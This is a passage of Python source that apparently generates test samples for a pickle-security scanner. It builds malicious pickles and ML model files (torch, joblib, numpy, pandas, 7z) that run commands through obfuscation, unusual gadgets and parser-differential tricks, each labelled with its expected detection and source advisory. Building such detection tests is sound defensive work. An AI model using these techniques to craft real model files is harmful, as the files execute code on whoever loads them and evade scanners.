    return marshal.dumps(compile(py_code(sid), "<pickleguard>", "exec"))


@sample("nested", expect=(NESTED, DANGEROUS, DYNAMIC),
        source="classic (marshal.loads + types.FunctionType; Python-version specific bytecode)",
        note="the code object is marshalled by the generating Python; it loads only on the same minor version")
def marshal_function(sid):
    fn = CALL(G("types", "FunctionType"), CALL(G("marshal", "loads"), _code_bytes(sid)), {})
    return simple(3, CALL(fn))


# =============================================================================================
# obfuscation: base64 / zlib / hex / rot13 / joined strings
# =============================================================================================

@sample("obfuscation", expect=(OBFUSCATION, NESTED), source="classic (pickle.loads(base64.b64decode(...)))")
def base64_nested_pickle(sid):
    enc = base64.b64encode(_inner(sid)).decode()
    return simple(2, CALL(G("pickle", "loads"), CALL(G("base64", "b64decode"), enc)))


@sample("obfuscation", expect=(OBFUSCATION, CODE), source="classic (exec(base64.b64decode(...)))")
def base64_exec(sid):
    enc = base64.b64encode(py_code(sid).encode()).decode()
    return simple(2, CALL(G("builtins", "exec"), CALL(G("base64", "b64decode"), enc)))


@sample("obfuscation", expect=(OBFUSCATION, CODE), source="classic (exec(zlib.decompress(...)))")
def zlib_exec(sid):
    return simple(3, CALL(G("builtins", "exec"), CALL(G("zlib", "decompress"), zlib.compress(py_code(sid).encode(), 9))))


@sample("obfuscation", expect=(OBFUSCATION, CODE), source="classic (exec(bytes.fromhex(...)))")
def hex_exec(sid):
    return b"\x80\x04" + frame(Asm(4, header=False).emit(
        CALL(G("builtins", "exec"), CALL(G("builtins", "bytes.fromhex"), binascii.hexlify(py_code(sid).encode()).decode()))
    ).stop())


@sample("obfuscation", expect=(OBFUSCATION, CODE), source="codecs rot13 wrapped code string")
def rot13_exec(sid):
    return simple(2, CALL(G("builtins", "exec"), CALL(G("codecs", "decode"), codecs.encode(py_code(sid), "rot13"), "rot13")))


@sample("obfuscation", expect=(OBFUSCATION, CODE, DYNAMIC), source="code string joined at load time")
def joined_exec(sid):
    code = py_code(sid)
    parts = [code[i:i + 5] for i in range(0, len(code), 5)]
    joined = CALL(GETATTR("", "join"), parts)
    return simple(2, CALL(G("builtins", "exec"), joined))


@sample("obfuscation", expect=IMPORT_CALL, source="protocol 0 STRING escapes hide the command text")
def proto0_escaped_string(sid):
    esc = "".join("\\x%02x" % b for b in shell_cmd(sid).encode())
    return b"cos\nsystem\n(S'" + esc.encode() + b"'\ntR."


# =============================================================================================
# gadget: code execution outside classic blocklists
# =============================================================================================

@sample("gadget", expect=GADGET, source="picklescan advisory (timeit.timeit gadget, 2025)")
def timeit_timeit(sid):
    return simple(2, CALL(G("timeit", "timeit"), py_code(sid), "pass", G("time", "perf_counter"), 1))


@sample("gadget", expect=GADGET, source="picklescan advisory (cProfile.run gadget, 2025)")
def cprofile_run(sid):
    return simple(2, CALL(G("cProfile", "run"), py_code(sid)))


@sample("gadget", expect=GADGET, source="picklescan advisory (profile.run gadget)")
def profile_run(sid):
    return simple(2, CALL(G("profile", "run"), py_code(sid)))


@sample("gadget", expect=GADGET + (DYNAMIC,), source="picklescan advisory (pdb gadget, 2025)")
def pdb_run(sid):
    # pdb.Pdb('tab', StringIO('continue\n'), StringIO()).run(code): with its own stdout the
    # debugger reads commands from the given stdin, gets 'continue' and runs the code.
    dbg = CALL(G("pdb", "Pdb"), "tab", CALL(G("_io", "StringIO"), "continue\n"), CALL(G("_io", "StringIO")))
    return simple(2, CALL(GETATTR(dbg, "run"), py_code(sid)))


@sample("gadget", expect=GADGET + (DYNAMIC,), source="picklescan advisory (bdb.Bdb.run gadget, 2025)")
def bdb_run(sid):
    return simple(2, CALL(GETATTR(CALL(G("bdb", "Bdb")), "run"), py_code(sid)))


@sample("gadget", expect=GADGET + (DYNAMIC,), source="picklescan advisory (trace.Trace.run gadget, 2025)")
def trace_run(sid):
    tracer = CALL(G("trace", "Trace"), 0, 0)  # count=0, trace=0: quiet
    return simple(2, CALL(GETATTR(tracer, "run"), py_code(sid)))


@sample("gadget", expect=GADGET + (DYNAMIC,), source="picklescan advisory (code.InteractiveInterpreter gadget)")
def code_interpreter_runsource(sid):
    interp = CALL(G("code", "InteractiveInterpreter"))
    return simple(2, CALL(GETATTR(interp, "runsource"), py_code(sid)))


@sample("gadget", expect=GADGET, source="picklescan advisory (runpy._run_code gadget, 2025)")
def runpy_run_code(sid):
    return simple(2, CALL(G("runpy", "_run_code"), py_code(sid), {}))


@sample("gadget", expect=GADGET, source="JFrog blog 2024 / picklescan advisory (numpy.testing runstring)",
        requires=("numpy",))
def numpy_runstring(sid):
    return simple(2, CALL(G("numpy.testing._private.utils", "runstring"), py_code(sid), {}))


@sample("gadget", expect=GADGET, source="picklescan advisory (idlelib.calltip.get_entity eval)",
        requires=("tkinter",))
def idlelib_calltip_get_entity(sid):
    return simple(2, CALL(G("idlelib.calltip", "get_entity"), py_code(sid)))


@sample("gadget", expect=GADGET, source="picklescan advisory (idlelib.autocomplete AutoComplete.get_entity)",
        requires=("tkinter",))
def idlelib_autocomplete_get_entity(sid):
    return simple(4, CALL(G("idlelib.autocomplete", "AutoComplete.get_entity"), None, py_code(sid)))


@sample("gadget", expect=GADGET + (DYNAMIC,), source="ctypes: libc system() without the os module")
def ctypes_libc_system(sid):
    libc = CALL(G("ctypes", "CDLL"), None)
    return simple(3, CALL(GETATTR(libc, "system"), shell_cmd(sid).encode()))


@sample("gadget", expect=GADGET + (DYNAMIC,),
        source="webbrowser.get('cmd %s') runs a command line (CPython webbrowser.py)",
        note="runs `touch` as the 'browser'; nothing is opened. The verifier unsets DISPLAY/BROWSER")
def webbrowser_generic(sid):
    browser = CALL(G("webbrowser", "get"), "touch %s")
    return simple(2, CALL(GETATTR(browser, "open"), marker(sid)))


@sample("gadget", expect=GADGET, source="multiprocessing.util.spawnv_passfds forks and execs",
        note="asynchronous: the marker may appear a moment after loading returns")
def multiprocessing_spawnv(sid):
    return simple(3, CALL(G("multiprocessing.util", "spawnv_passfds"), b"/bin/sh",
                          ["sh", "-c", shell_cmd(sid)], []))


@sample("gadget", expect=GADGET, source="asyncio.subprocess helpers run under asyncio.run",
        note="the child is started by asyncio; the marker may appear a moment after loading returns")
def asyncio_subprocess(sid):
    coro = CALL(G("asyncio.subprocess", "create_subprocess_exec"), "touch", marker(sid))
    return simple(2, CALL(G("asyncio", "run"), coro))


@sample("gadget", expect=GADGET, source="logging.config.dictConfig '()' factories (CPython docs)")
def logging_dictconfig(sid):
    conf = {"version": 1, "filters": {"f": {"()": "os.system", "command": shell_cmd(sid)}}}
    return simple(2, CALL(G("logging.config", "dictConfig"), conf))


@sample("gadget", expect=GADGET, source="picklescan advisory (uuid._get_command_stdout)")
def uuid_get_command_stdout(sid):
    return simple(2, CALL(G("uuid", "_get_command_stdout"), "touch", marker(sid)))


@sample("gadget", expect=GADGET, source="doctest runs the examples of a docstring given as a string")
def doctest_docstring(sid):
    return simple(2, CALL(G("doctest", "run_docstring_examples"), ">>> " + py_code(sid) + "\n", {}))


@sample("gadget", expect=GADGET, requires=("torch",),
        source="picklescan advisory / JFrog blog 2024 (torch.utils.collect_env.run)")
def torch_collect_env_run(sid):
    return simple(2, CALL(G("torch.utils.collect_env", "run"), shell_cmd(sid)))


@sample("gadget", expect=GADGET + (NESTED,), requires=("torch",),
        source="torch config modules: load_config() unpickles its argument (torch/utils/_config_module.py)")
def torch_config_load_config(sid):
    return simple(3, CALL(G("torch._dynamo.config", "load_config"), _inner(sid)))


@sample("gadget", expect=GADGET, fires=False, source="JFrog blog 2024 / picklescan advisory (pip.main)",
        note="never executed: pip would try to install a package (here --no-index, so it fails offline)")
def pip_main(sid):
    return simple(2, CALL(G("pip", "main"), ["install", "--no-index", "--find-links", ".", marker(sid)]))


# =============================================================================================
# stream: protocols, framing, nesting, size, broken and concatenated streams
# =============================================================================================

@sample("stream", source="pickletools docs (protocol 1 binary opcodes, no PROTO header)")
def proto1_binary(sid):
    # SHORT_BINSTRING is decoded to str under Python 3 (encoding='ASCII').
    cmd = shell_cmd(sid).encode()
    return b"cos\nsystem\n(U" + bytes([len(cmd)]) + cmd + b"tR."


@sample("stream", source="pickletools docs (protocol 5, FRAME, MEMOIZE, STACK_GLOBAL)")
def proto5_frame(sid):
    a = Asm(5, header=False)
    a.str_("subprocess"); a.put()
    a.str_("check_call"); a.put()
    a.op(b"\x93"); a.put()
    a.list_(["touch", marker(sid)]); a.put()
    a.op(b"\x85R"); a.put()
    return b"\x80\x05" + frame(a.stop())


@sample("parser_differential", loader="pickle.loads",
        source="FRAME length ending inside an opcode: the C unpickler accepts it, pickle._Unpickler does not",
        note="the C unpickler only checks that a FRAME's bytes are there and reads on past its end; "
             "pickle._loads (and joblib's pure-Python unpickler) raise 'pickle exhausted before end of frame'")
def frame_straddle(sid):
    body = Asm(4, header=False).emit(CALL(G("os", "system"), shell_cmd(sid))).stop()
    cut = body.index(b"system") + 3  # the frame claims to end inside the 'system' argument
    return b"\x80\x04\x95" + struct.pack("<Q", cut) + body


@sample("parser_differential", loader="pickle.loads",
        source="FRAME inside a FRAME: the C unpickler accepts it, pickle._Unpickler does not",
        note="pickle._loads raises 'beginning of a new frame before end of current frame' before the payload")
def frame_nested(sid):
    payload = Asm(4, header=False).emit(CALL(G("os", "system"), shell_cmd(sid))).stop()
    head = Asm(4, header=False).emit({"format": "weights"}).op(b"0").bytes()
    return b"\x80\x04" + frame(head + frame(payload))


@sample("stream", loader="pickle._loads", source="the pure-Python unpickler (pickle._loads), as joblib uses")
def pure_python_loader(sid):
    return b"\x80\x04" + frame(Asm(4, header=False).emit(CALL(G("subprocess", "call"), ["touch", marker(sid)])).stop())


@sample("stream", source="payload buried in 1000 nested lists")
def deep_nesting(sid):
    depth = 1000
    a = Asm(2)
    a.op(b"]" * depth)
    a.emit(CALL(G("os", "system"), shell_cmd(sid)))
    a.op(b"a" * depth)
    return a.stop()


@sample("stream", source="2 MB of plain data before the payload")
def large_prefix(sid):
    a = Asm(4, header=False)
    a.op(b"](")
    for i in range(40000):
        a.str_("benign-record-%06d" % i).int_(i % 50000)
    a.bytes_(bytes(range(256)) * 4096)  # 1 MiB
    a.op(b"e")
    a.emit(CALL(G("os", "system"), shell_cmd(sid))).op(b"a")
    return b"\x80\x04" + a.stop()


@sample("stream", expect=IMPORT_CALL, source="payload followed by broken bytes (the error comes after it ran)",
        note="the loader raises 'invalid load key' after the payload has run")
def payload_then_garbage(sid):
    a = Asm(2)
    a.emit(CALL(G("os", "system"), shell_cmd(sid)))
    return a.bytes() + b"\xff\xfe garbage \x00"


@sample("stream", loader="pickle.load_stream", source="concatenated pickles: a benign one, then a malicious one",
        note="pickle.loads reads only the first pickle; readers that call pickle.load until EOF run the second")
def concatenated_pickles(sid):
    return pickle.dumps({"ok": 1, "weights": [0.5, 0.25]}, protocol=2) + system_call(sid, 2, "posix")


@sample("stream", source="protocol 0, text opcodes only (GLOBAL, MARK, UNICODE, TUPLE, REDUCE)")
def proto0_subprocess(sid):
    return simple(0, CALL(G("subprocess", "check_call"), ["touch", marker(sid)]))


# =============================================================================================
# container: payloads inside files the ML libraries write
# =============================================================================================

def _torch_bytes(obj, legacy: bool = False) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    data = buf.getvalue()
    return _fix_legacy_storage_keys(data) if legacy else data


def _fix_legacy_storage_keys(data: bytes) -> bytes:
    """The legacy format names storages by their memory address (str(storage._cdata)), so
    two saves differ. Rename them '0', '1', ... in the main pickle and in the key list.
    Only pickletools.genops reads the stream here: nothing is unpickled."""
    import pickletools

    f = io.BytesIO(data)
    bounds = []
    for _ in range(5):  # magic, protocol, sys_info, main object, storage keys
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        bounds.append((start, f.tell()))
    keys = [arg for op, arg, _ in pickletools.genops(data[bounds[4][0]:bounds[4][1]])
            if isinstance(arg, str) and op.name in ("BINUNICODE", "SHORT_BINUNICODE")]
    head, tail = data[:bounds[3][0]], data[bounds[4][1]:]
    main_and_keys = data[bounds[3][0]:bounds[4][1]]
    for i, key in enumerate(keys):
        old = b"X" + struct.pack("<I", len(key)) + key.encode()
        new = b"X" + struct.pack("<I", len(str(i))) + str(i).encode()
        main_and_keys = main_and_keys.replace(old, new)
    # Each storage's raw data is preceded by nothing that names it, so the tail stays as is.
    return head + main_and_keys + tail


def _torch_obj(sid: str) -> dict:
    import torch

    return {"weight": torch.arange(8, dtype=torch.float32), "payload": SystemPayload(sid)}


@sample("container", ext=".pt", container="pytorch_zip", loader="torch.load",
        source="JFrog blog 2024 / classic (payload object in a torch.save checkpoint)")
def torch_zip(sid):
    return _torch_bytes(_torch_obj(sid))


@sample("container", ext=".pt", container="pytorch_legacy", loader="torch.load",
        source="classic (legacy torch.save format)")
def torch_legacy(sid):
    return _torch_bytes(_torch_obj(sid), legacy=True)


@sample("container", ext=".pt", container="pytorch_legacy", loader="torch.load", requires=("torch",),
        source="payload in the legacy format's first pickle (the magic number), loaded before anything else")
def torch_legacy_magic(sid):
    import torch

    data = _torch_bytes({"weight": torch.arange(4, dtype=torch.float32)}, legacy=True)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    assert data.startswith(magic)
    # max(os.system(...), MAGIC) == MAGIC: the load then continues as if nothing happened.
    evil = simple(2, CALL(G("builtins", "max"), CALL(G("os", "system"), shell_cmd(sid)), 0x1950A86A20F9469CFC6C))
    return evil + data[len(magic):]


@sample("container", ext=".tar", container="pytorch_tar", loader="torch.load", requires=("torch",),
        source="torch.load's oldest (tar) format: the 'storages' member is unpickled first",
        note="torch extracts the member into its own temporary directory before unpickling it")
def torch_tar(sid):
    buf = io.BytesIO()
    members = [("storages", system_call(sid, 2)), ("sys_info", pickle.dumps({}, protocol=2))]
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@sample("container", ext=".pt", container="pytorch_zip", loader="none", fires=False, expect=IMPORT_CALL,
        requires=("torch",), source="picklescan/modelscan issues (only data.pkl scanned)",
        note="torch.load unpickles only data.pkl; the extra member runs under any tool that unpickles every .pkl member")
def torch_zip_second_pkl(sid):
    import torch

    members = zip_members(_torch_bytes({"weight": torch.arange(4, dtype=torch.float32)}))
    members.insert(1, ZipMember("archive/extra.pkl", system_call(sid, 2)))
    return build_zip(members)


@sample("parser_differential", ext=".pt", container="pytorch_zip", loader="torch.load", expect=IMPORT_CALL + (TAMPER,),
        requires=("torch",),
        source="JFrog 2025 / picklescan advisories (zip local and central headers disagree)",
        note="Python's zipfile refuses data.pkl ('File name in directory and header differ'); torch reads it by the central directory")
def torch_zip_name_mismatch(sid):
    # File order: an orphan local entry 'archive/data.pkl' with a benign pickle (not in the
    # central directory), then the real member, whose local header says 'archive/notes.txt'
    # but whose central-directory entry says 'archive/data.pkl' -- and holds the payload.
    import torch

    real = zip_members(_torch_bytes(_torch_obj(sid)))
    benign = zip_members(_torch_bytes({"weight": torch.arange(8, dtype=torch.float32)}))
    decoy = next(m for m in benign if m.name == "archive/data.pkl")
    out = [ZipMember("archive/data.pkl", decoy.data, in_central=False)]
    for m in real:
        if m.name == "archive/data.pkl":
            m.local_name = "archive/notes.txt"
        out.append(m)
    return build_zip(out)


@sample("parser_differential", ext=".pt", container="pytorch_zip", loader="torch.load", expect=IMPORT_CALL + (TAMPER,),
        requires=("torch",), source="picklescan advisory 2025 (bad CRC: zipfile rejects, torch.load ignores)",
        note="zipfile raises 'Bad CRC-32 for file archive/data.pkl'; torch does not check CRCs")
def torch_zip_bad_crc(sid):
    members = zip_members(_torch_bytes(_torch_obj(sid)))
    for m in members:
        if m.name.endswith("data.pkl"):
            m.crc = (zlib.crc32(m.data) ^ 0xDEADBEEF) & 0xFFFFFFFF
    return build_zip(members)


@sample("parser_differential", ext=".pt", container="pytorch_zip", loader="torch.load", expect=IMPORT_CALL + (TAMPER,),
        requires=("torch",), source="zip header fields that zipfile refuses and torch ignores (picklescan advisories 2025)",
        note="'version needed to extract' 10.0 in the central directory: zipfile refuses to open the archive "
             "(NotImplementedError: zip file version 10.0); torch (miniz) ignores the field")
def torch_zip_version_needed(sid):
    members = zip_members(_torch_bytes(_torch_obj(sid)))
    for m in members:
        if m.name.endswith("data.pkl"):
            m.version = 100
    return build_zip(members)


@sample("container", ext=".pt", container="pytorch_zip", loader="torch.load", requires=("torch",),
        source="torch finds records under any top-level folder name, not only 'archive/'")
def torch_zip_renamed_prefix(sid):
    members = zip_members(_torch_bytes(_torch_obj(sid)))
    for m in members:
        m.name = "resnet-weights-v2/" + m.name.split("/", 1)[1]
    return build_zip(members)


def _joblib_obj(sid: str) -> dict:
    import numpy as np

    return {"coef": np.arange(16, dtype=np.float64), "payload": SystemPayload(sid)}


def _joblib_file(sid: str, path: Path, compress) -> None:
    import joblib

    joblib.dump(_joblib_obj(sid), str(path), compress=compress)


@sample("container", ext=".joblib", container="joblib", loader="joblib.load", writes_file=True,
        source="classic (joblib.dump of an object with a payload)")
def joblib_plain(sid, path):
    _joblib_file(sid, path, 0)


@sample("container", ext=".joblib", container="joblib_zlib", loader="joblib.load", writes_file=True,
        source="classic (joblib compress=('zlib', 3))")
def joblib_zlib(sid, path):
    _joblib_file(sid, path, ("zlib", 3))


@sample("container", ext=".joblib", container="joblib_gzip", loader="joblib.load", writes_file=True,
        source="classic (joblib compress=('gzip', 3))")
def joblib_gzip(sid, path):
    _joblib_file(sid, path, ("gzip", 3))


@sample("container", ext=".joblib", container="joblib_bz2", loader="joblib.load", writes_file=True,
        source="classic (joblib compress=('bz2', 3))")
def joblib_bz2(sid, path):
    _joblib_file(sid, path, ("bz2", 3))


@sample("container", ext=".joblib", container="joblib_xz", loader="joblib.load", writes_file=True,
        source="classic (joblib compress=('xz', 3))")
def joblib_xz(sid, path):
    _joblib_file(sid, path, ("xz", 3))


@sample("container", ext=".joblib", container="joblib_lz4", loader="joblib.load", writes_file=True,
        requires=("lz4",), source="classic (joblib compress=('lz4', 3))")
def joblib_lz4(sid, path):
    _joblib_file(sid, path, ("lz4", 3))


@sample("container", ext=".joblib", container="joblib", loader="joblib.load", writes_file=True,
        source="joblib writes object arrays as a nested pickle stream inline after the array wrapper",
        note="the payload lives in the inline nested pickle of an object-dtype array, not in the main stream")
def joblib_object_array(sid, path):
    import joblib
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = "harmless"
    arr[1] = SystemPayload(sid)
    joblib.dump({"labels": arr}, str(path), compress=0)


@sample("parser_differential", ext=".joblib", container="joblib", loader="joblib.load", writes_file=True,
        source="joblib array bytes desync naive parsers (joblib/numpy_pickle.py: padding byte + raw array bytes)",
        note="a parser that reads the array bytes as opcodes sees STOP, then a benign BINBYTES swallowing the payload; "
             "plain pickle.loads returns a harmless NumpyArrayWrapper")
def joblib_desync(sid, path):
    _joblib_desync(sid, path)


@sample("parser_differential", ext=".joblib", container="joblib", loader="pandas.read_pickle",
        writes_file=True, expect=("RESOURCE_LIMIT",),
        source="pickleguard's own finding: a reading of the file that only pickle.load makes (joblib's "
               "array bytes run as opcodes) stopped at a limit of the analysis before its payload",
        note="joblib.load reads a harmless uint8 array; pickle.load (pandas.read_pickle) runs the "
             "array bytes as opcodes: 2**24 + 1 NONEs, past the scanner's stack limit, then os.system")
def joblib_plain_reading_past_a_limit(sid, path):
    """joblib writes, after the BUILD of a NumpyArrayWrapper, one byte (the padding length),
    that many padding bytes, then the array bytes. A padding length of 78 ('N', NONE) with
    'N' padding lets pickle.load read on into the array, whose bytes are NONEs and then a
    whole protocol 0 payload ending in STOP."""
    import joblib
    import joblib.numpy_pickle as jnp
    import numpy as np

    pad_len = ord("N")
    array = b"N" * ((1 << 24) + 1) + simple(0, CALL(G("os", "system"), shell_cmd(sid)))
    obj = {"coef": np.zeros(len(array), dtype=np.uint8)}

    def write_array(self, arr, pickler):
        pickler.file_handle.write(bytes([pad_len]) + b"N" * pad_len + array)

    orig = jnp.NumpyArrayWrapper.write_array
    jnp.NumpyArrayWrapper.write_array = write_array
    try:
        joblib.dump(obj, str(path), compress=0, protocol=2)
    finally:
        jnp.NumpyArrayWrapper.write_array = orig


def _joblib_desync(sid: str, path: Path) -> None:
    """Write {'coef': uint8 array, 'payload': ...} with crafted padding and array bytes.

    joblib reads, right after the BUILD of a NumpyArrayWrapper: one byte `n` (padding length),
    `n` padding bytes, then exactly size*itemsize array bytes, and then goes on unpickling.
    Here n = 0x2e ('.', STOP) and the padding starts with BINBYTES (b'B' + length) whose
    length covers the rest of the padding, the array bytes and every opcode after the array
    except the final STOP. A parser that treats these bytes as opcodes sees: STOP (end of
    pickle 1), then a second pickle BINBYTES(...) STOP holding only bytes."""
    import joblib
    import joblib.numpy_pickle as jnp
    import numpy as np

    pad_len = 0x2E
    n_array = 64
    obj = {"coef": np.zeros(n_array, dtype=np.uint8), "payload": SystemPayload(sid)}
    state = {"swallow": 0}

    def write_array(self, array, pickler):
        fh = pickler.file_handle
        padding = b"B" + struct.pack("<I", state["swallow"])
        padding += b"\x00" * (pad_len - len(padding))
        fh.write(bytes([pad_len]) + padding)
        fh.write(b"\x00" * n_array)

    orig = jnp.NumpyArrayWrapper.write_array
    jnp.NumpyArrayWrapper.write_array = write_array
    try:
        for _ in range(2):  # second pass with the right length
            joblib.dump(obj, str(path), compress=0, protocol=2)
            data = path.read_bytes()
            start = data.index(bytes([pad_len]) + b"B")  # the padding-length byte
            after_len = start + 1 + 5                     # first byte the BINBYTES swallows
            swallow = len(data) - 1 - after_len           # everything up to the final STOP
            if swallow == state["swallow"]:
                break
            state["swallow"] = swallow
        else:
            raise AssertionError("joblib_desync did not converge")
    finally:
        jnp.NumpyArrayWrapper.write_array = orig


def _npy_bytes(sid: str) -> bytes:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = "harmless"
    arr[1] = SystemPayload(sid)
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


@sample("container", ext=".npy", container="numpy_npy", loader="numpy.load",
        source="classic (object-dtype .npy; numpy.load(allow_pickle=True))",
        note="fires under numpy.load(allow_pickle=True) only; the default allow_pickle=False refuses it")
def numpy_npy(sid):
    return _npy_bytes(sid)


@sample("container", ext=".npz", container="numpy_npz", loader="numpy.load",
        source="classic (object-dtype array in an .npz)",
        note="NpzFile is lazy: the payload runs when the member is accessed (np.load(...)['arr_0'])")
def numpy_npz(sid):
    return fixed_zip([("weights.npy", _npy_bytes_benign()), ("labels.npy", _npy_bytes(sid))])


def _npy_bytes_benign() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.arange(8, dtype=np.float32))
    return buf.getvalue()


def _pandas_series(sid: str):
    import pandas as pd

    return pd.Series(["a", SystemPayload(sid)], dtype=object)


@sample("container", ext=".pkl.gz", container="gzip", loader="pandas.read_pickle", writes_file=True,
        source="classic (pandas.to_pickle with gzip; read_pickle infers compression)")
def pandas_gzip(sid, path):
    _pandas_series(sid).to_pickle(str(path), compression={"method": "gzip", "mtime": 0})


@sample("container", ext=".pkl.bz2", container="bz2", loader="pandas.read_pickle", writes_file=True,
        source="classic (pandas.to_pickle with bz2)")
def pandas_bz2(sid, path):
    _pandas_series(sid).to_pickle(str(path), compression="bz2")


@sample("container", ext=".pkl.xz", container="xz", loader="pandas.read_pickle", writes_file=True,
        source="classic (pandas.to_pickle with xz)")
def pandas_xz(sid, path):
    _pandas_series(sid).to_pickle(str(path), compression="xz")


@sample("container", ext=".pkl.gz", container="gzip", loader="pandas.read_pickle", requires=("pandas",),
        source="raw pickle wrapped by Python's gzip module")
def raw_gzip(sid):
    return gzip.compress(system_call(sid, 4), mtime=0)


@sample("container", ext=".pkl.bz2", container="bz2", loader="pandas.read_pickle", requires=("pandas",),
        source="raw pickle wrapped by Python's bz2 module")
def raw_bz2(sid):
    return bz2.compress(system_call(sid, 4))


@sample("container", ext=".pkl.xz", container="xz", loader="pandas.read_pickle", requires=("pandas",),
        source="raw pickle wrapped by Python's lzma module")
def raw_xz(sid):
    return lzma.compress(system_call(sid, 4))


# A damaged checksum (or a damaged byte after the payload): Python's decompressors hand a
# streaming loader every byte before they notice, and the unpickler stops at STOP before the
# reader gets there. Zeros after the STOP put the damage beyond the reader's first chunk
# (8 KiB), within the 64 KiB a decoder that fails a read drops with it.
_PADDING = b"\0" * 30_000


def _flip(data: bytes, at: int) -> bytes:
    b = bytearray(data)
    b[at] ^= 0x55
    return bytes(b)


@sample("parser_differential", ext=".pkl.gz", container="gzip", loader="pandas.read_pickle",
        requires=("pandas",), source="gzip member whose CRC-32 is wrong",
        note="GzipFile checks the CRC when the member ends; pickle.load has returned by then")
def damaged_gzip_crc(sid):
    return _flip(gzip.compress(system_call(sid, 4) + _PADDING, mtime=0), -8)


@sample("parser_differential", ext=".pkl.xz", container="xz", loader="pandas.read_pickle",
        requires=("pandas",), source="xz block whose CRC-64 check is wrong")
def damaged_xz_check(sid):
    data = lzma.compress(system_call(sid, 4) + _PADDING, check=lzma.CHECK_CRC64)
    index = (struct.unpack("<I", data[-8:-4])[0] + 1) * 4  # the footer's backward size
    return _flip(data, len(data) - 12 - index - 8)


@sample("parser_differential", ext=".pkl.bz2", container="bz2", loader="pandas.read_pickle",
        requires=("pandas",), source="bzip2 block whose CRC is wrong")
def damaged_bz2_block_crc(sid):
    return _flip(bz2.compress(system_call(sid, 4) + _PADDING), 10)  # after BZh9 and the magic


@sample("parser_differential", ext=".pkl.xz", container="xz", loader="pandas.read_pickle",
        requires=("pandas",), source="xz stream damaged well after the payload",
        note="the decoders notice at different bytes; the scan sees the payload before either")
def damaged_xz_data(sid):
    data = lzma.compress(system_call(sid, 4) + _PADDING + bytes(range(256)) * 64)
    return _flip(data, len(data) - 200)


@sample("parser_differential", ext=".pkl.xz", container="lzma", loader="pandas.read_pickle", requires=("pandas",),
        source="a .lzma ('alone') stream with properties and a dictionary size joblib never writes",
        note="liblzma's format guess (lzma.open, pandas' xz) takes any valid .lzma header; "
             "a scanner that knows only joblib's 0x5d prefix reads the bytes as no pickle")
def raw_lzma_alone_props(sid):
    filters = [{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 0, "pb": 0, "dict_size": 1 << 16}]
    return lzma.compress(system_call(sid, 4), format=lzma.FORMAT_ALONE, filters=filters)


@sample("parser_differential", ext=".pt", container="polyglot", loader="pickle.loads", requires=("torch",),
        source="pickle+zip polyglot (Trail of Bits 'Exploiting ML models with pickle file attacks', 2024)",
        note="a zip reader (zipfile, which allows a prefix) sees a benign torch archive; pickle.loads runs the prefix")
def pickle_zip_polyglot(sid):
    import torch

    benign = _torch_bytes({"weight": torch.arange(4, dtype=torch.float32)})
    zf = zipfile.ZipFile(io.BytesIO(benign))
    prefix = system_call(sid, 2)
    members = [ZipMember(i.filename, zf.read(i.filename)) for i in sorted(zf.infolist(), key=lambda i: i.header_offset)]
    return build_zip(members, prefix=prefix)


@sample("container", ext=".7z", container="7z", loader="none", fires=False, expect=(UNSCANNABLE,),
        requires=("py7zr", "torch"), writes_file=True, source="7z-wrapped model files (JFrog blog 2025, picklescan 7z bypass)",
        note="no ML loader opens 7z: a user extracts it first; a scanner that cannot look inside must say UNSCANNABLE")
def seven_zip_torch(sid, path):
    import py7zr

    data = _torch_bytes(_torch_obj(sid))
    from py7zr.helpers import ArchiveTimestamp

    with py7zr.SevenZipFile(str(path), "w") as z:
        z.writestr(data, "model.pt")
        fixed = ArchiveTimestamp.from_datetime(315532800.0)  # 1980-01-01, not "now"
        for info in z.header.files_info.files:
            for key in ("creationtime", "lastwritetime", "lastaccesstime"):
                info[key] = fixed



# =============================================================================================
# serializer: dill and cloudpickle output
# =============================================================================================

@sample("serializer", expect=(DANGEROUS, UNKNOWN, DYNAMIC), requires=("cloudpickle",),
        source="cloudpickle docs (functions pickled by value; loads with plain pickle)")
def cloudpickle_function(sid):
    import cloudpickle

    return cloudpickle.dumps(CallOnLoad(marker_function(sid)), protocol=4)


@sample("serializer", expect=(DANGEROUS, UNKNOWN, DYNAMIC), loader="dill.loads",
        source="dill docs (functions and code objects pickled by value)")
def dill_function(sid):
    import dill

    return dill.dumps(CallOnLoad(marker_function(sid)), protocol=4, recurse=True)


# =============================================================================================
# behaviour gadgets (issue 14): only names the `ml` profile allows, whose own code runs the data
# =============================================================================================
# Every technique below is written as an object graph of real library objects and `Reduce`
# stand-ins, then dumped by the real library of each container (pickle, torch.save in both
# formats, joblib.dump plain/zlib/lz4, numpy.save of an object array, pandas.to_pickle with
# gzip/xz and a zip that read_pickle infers), so every sample looks like what those libraries
# write, with the gadget somewhere inside.

class Reduce:
    """Pickles as `fn(*args)`, then BUILD `state`, APPENDS `items`, SETITEMS `dictitems`
    (the five-tuple of __reduce_ex__). With fn = copyreg.__newobj__ the pickler writes NEWOBJ
    (it insists that the object's class is args[0]: `__class__` says so)."""

    def __init__(self, fn, args=(), state=None, items=None, dictitems=None):
        self.parts = (fn, tuple(args), state, items, dictitems)

    def __reduce_ex__(self, proto):
        fn, args, state, items, dictitems = self.parts
        return (fn, args, state, None if items is None else iter(items),
                None if dictitems is None else iter(dictitems))

    def __call__(self, *args):  # the pickler wants the callable of a nested Reduce callable
        raise TypeError("a pickling stand-in, never called")

    @property
    def __class__(self):
        fn, args = self.parts[:2]
        if fn is copyreg.__newobj__:
            return args[0]
        return Reduce


def NEWOBJ(cls, *args, state=None, items=None, dictitems=None) -> Reduce:
    return Reduce(copyreg.__newobj__, (cls,) + args, state, items, dictitems)


def getattr_(obj, name: str) -> Reduce:
    return Reduce(getattr, (obj, name))


def py_expr(sid: str, how: int = 0) -> str:
